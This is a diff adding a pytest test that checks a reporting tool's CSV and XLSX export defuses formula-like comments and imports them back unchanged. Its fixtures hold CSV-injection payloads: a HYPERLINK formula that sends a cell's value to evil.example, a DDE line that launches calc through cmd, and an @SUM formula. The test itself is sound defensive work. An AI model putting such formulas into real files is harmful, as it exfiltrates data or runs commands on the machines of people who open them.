@@ -274,3 +274,39 @@ def test_export_refuses_what_is_not_a_period(
     nowhere = tmp_path / "nav" / "x.csv"
     assert main(["export", "--format", "csv", "--out", str(nowhere)]) == 2
     assert "Nevar ierakstīt" in capsys.readouterr().err
+
+
+def test_formula_like_comments_stay_text_in_csv_and_xlsx_and_import_back(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    source = tmp_path / "evil.csv"
+    rows = [
+        ("dd-within-sla", "88,5", evil),
+        ("dd-e-share", "71,2", "+cmd|' /C calc'!A0"),
+        ("dvs-availability", "99,95", "@SUM(1+1)"),
+    ]
+    text = "indicator;period;value;comment\r\n" + "".join(
+        f'{i};2026-10;{v};"{c.replace(chr(34), chr(34) * 2)}"\r\n' for i, v, c in rows
+    )
+    source.write_bytes(BOM + text.encode("utf-8"))
+    assert main(["import", str(source), "--source", "monitorings"]) == 0
+    csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
+    assert main(["export", "--format", "csv", "--csv-variant", "lv", "--out", str(csv_out)]) == 0
+    comments = {r["indicator"]: r["comment"] for r in read_rows(csv_out.read_bytes())}
+    assert comments["dd-within-sla"] == "'" + evil
+    assert comments["dvs-availability"] == "'@SUM(1+1)"
+    assert main(["export", "--format", "xlsx", "--out", str(xlsx_out)]) == 0
+    sheet = load_workbook(xlsx_out).active
+    assert sheet is not None
+    header = [c.value for c in sheet[1]]
+    column = header.index("comment")
+    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
+    assert {c.data_type for c in cells if c.value} == {"s"}  # never a formula
+    assert evil in [c.value for c in cells]
+    use_database(monkeypatch, tmp_path, "two")  # the defused CSV imports back unchanged
+    capsys.readouterr()
+    assert main(["import", str(csv_out), "--source", "monitorings"]) == 0
+    again = tmp_path / "again.csv"
+    assert main(["export", "--format", "csv", "--csv-variant", "lv", "--out", str(again)]) == 0
+    assert {r["indicator"]: r["comment"] for r in read_rows(again.read_bytes())} == comments
